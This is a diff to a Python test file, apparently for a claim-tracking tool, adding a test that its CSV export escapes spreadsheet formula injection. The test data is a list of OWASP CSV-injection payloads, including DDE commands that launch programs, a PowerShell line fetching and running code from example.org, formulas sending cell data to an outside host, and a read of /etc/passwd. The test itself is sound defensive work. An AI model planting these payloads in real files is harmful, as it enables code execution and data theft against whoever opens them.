@@ -241,3 +241,27 @@ def test_a_session_writes_its_claims(session, claim, tmp_path):
     assert (made["quote"], made["note"], made["analyst"]) == ("300 warga telah diungsikan", "'=1+1", "ana")
     session.export_csv(tmp_path / "b.csv", [claim], verbatim=True)
     assert dict(zip(*read(tmp_path / "b.csv"), strict=True))["note"] == "=1+1"
+
+
+# https://owasp.org/www-community/attacks/CSV_Injection, and the payloads that circulate with it.
+OWASP = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
+    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget example.org/x)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"klik")',
+    '=IMPORTXML(CONCAT("http://example.org?x=",A1),"//a")', '=IMPORTRANGE("http://example.org","A1")',
+    '=WEBSERVICE("http://example.org/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc'!A",
+    '"=1+1"', '=1+1";=1+1', ";=1+1", ",=1+1", "'=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
+    "='file:///etc/passwd'#$passwd.A1", "=INFO(\"osversion\")", "%0A=1+1", "=1+1\n=2+2",
+)  # fmt: skip
+
+
+def test_no_cell_of_owasps_list_begins_a_formula(tmp_path):
+    path = tmp_path / "rumus.csv"
+    write_csv(path, [[cell] * len(COLUMNS) for cell in OWASP])
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        found = list(csv.reader(file))[1:]
+    at = [n for n, name in enumerate(COLUMNS) if name not in NUMBERS]
+    assert [row[at[0]].removeprefix("'") for row in found] == [cell.removeprefix("'") for cell in OWASP]
+    for row in found:
+        for cell in (row[n] for n in at):
+            assert cell.lstrip(" \u00a0\ufeff\u200b\n")[:1] not in set("=+-@＝＋－＠\t\r"), cell
